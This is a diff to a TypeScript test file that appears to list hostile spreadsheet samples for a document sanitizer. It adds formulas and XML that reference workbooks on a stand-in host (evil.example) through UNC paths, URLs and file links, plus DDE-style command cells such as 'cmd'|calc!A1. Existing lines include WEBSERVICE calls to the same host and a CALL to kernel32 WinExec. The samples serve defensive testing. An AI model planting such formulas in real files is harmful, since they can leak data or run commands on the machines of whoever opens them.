@@ -166,10 +166,26 @@ const formulaPlaces: readonly (readonly [where: string, part: string, write: (fo
     ],
   ]
 
+/** Workbooks elsewhere, by each way that a formula has to say where. */
+const otherBooks = [
+  "'C:\\dir\\[b.xlsx]S'!A1",
+  "'https://evil.example/[b.xlsx]S'!A1",
+  "SUM('https://evil.example/o''brien/[b.xlsx]Jan:Mar'!A1:B9)",
+  "'\\\\evil.example\\share\\b.xlsx'!rate",
+  "'..\\[b.xlsx]S'!A1",
+  `'the "new" one'!A1&amp;'//evil.example/[b.xlsx]S'!A1&amp;"'"`,
+  "T[a'#]&amp;'\\\\evil.example\\[b.xlsx]S'!A1",
+  '_x0027_\\\\evil.example\\[b.xlsx]S_x0027_!A1',
+  "'file:///c:/b.ods'#$Sheet1.A1",
+  '[file:///c:/b.xlsx]Sheet1!A1',
+  '\\\\evil.example\\share\\[b.xlsx]Sheet1!A1',
+]
+
 function formulas(): HostileDocument[] {
   const reaching = [
     ['WEBSERVICE', '_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'],
     ['a command', "cmd|'/c calc'!A1"],
+    ['another workbook', "'\\\\evil.example\\share\\[b.xlsx]Sheet1'!A1"],
   ] as const
   const fetching = cell(reaching[0][1])
   return [
@@ -212,6 +228,7 @@ function formulas(): HostileDocument[] {
       'a formula behind a mark in a column’s name',
       cell(`T[a'#]&amp;"x'"&amp;WEBSERVICE("https://evil.example")`),
     ),
+    ...otherBooks.map((formula) => excel(`another workbook, ${formula}`, cell(formula))),
     excel('WEBSERVICE with a letter as Excel escapes it', cell('_x0057_EBSERVICE("https://evil.example")')),
   ]
 }
@@ -250,6 +267,16 @@ function office(): HostileDocument[] {
     excel('a DDE link', '<x:externalLink xmlns:x="u"><x:ddeLink ddeService="cmd"/></x:externalLink>'),
     excel('an OLE link', '<x:externalLink xmlns:x="u"><x:oleLink progId="x"/></x:externalLink>'),
     excel('another book', '<x:externalLink xmlns:x="u"><x:externalBook/></x:externalLink>'),
+    // [1] in a formula means the first of these. Without one it means nothing, so that the number itself is not refused.
+    excel(
+      'a list of other books',
+      '<x:workbook xmlns:x="u"><x:externalReferences><x:externalReference/></x:externalReferences></x:workbook>',
+    ),
+    excel(
+      'a relation to another book',
+      relation('externalLink', 'externalLinks/externalLink1.xml', 'Internal'),
+      'xl/_rels/workbook.xml.rels',
+    ),
     excel(
       'a web query',
       '<x:connections xmlns:x="u"><x:connection><x:webPr url="https://evil.example"/></x:connection></x:connections>',
@@ -267,6 +294,7 @@ function office(): HostileDocument[] {
     excel('CALL', cell('CALL("kernel32","WinExec","JCJ","calc",0)')),
     excel('a command', cell("cmd|'/c calc'!A1")),
     excel('a command without quotation marks', cell('cmd|calc!A1')),
+    excel('a command between quotation marks', cell("'cmd'|calc!A1")),
     excel('FILES of old macros', cell('FILES("\\\\evil.example\\share\\*")')),
     excel('INITIATE of old macros', cell('INITIATE("cmd","x")')),
     excel(
